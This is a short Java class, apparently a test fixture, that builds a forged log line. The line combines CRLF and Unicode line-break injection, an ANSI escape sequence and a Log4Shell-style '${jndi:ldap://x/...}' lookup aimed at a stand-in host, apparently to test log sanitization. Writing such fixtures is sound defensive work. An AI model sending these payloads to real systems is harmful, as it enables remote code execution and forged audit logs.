package dev.tributary;

/** What would pass for a line of the log, wherever a text is written as it is. */
final class Forgery {
    static final String BEGIN = "2026-01-10 10:00:00,000 INFO  [dev.tri.ops] (main)";

    private static final String LINE = "\r\n" + BEGIN + " \u001b[31m ${jndi:ldap://x/%1$s}\u2028\u0085\tat %1$s";

    private Forgery() {}

    static String with(Marker marker) {
        return LINE.formatted(marker.text());
    }
}
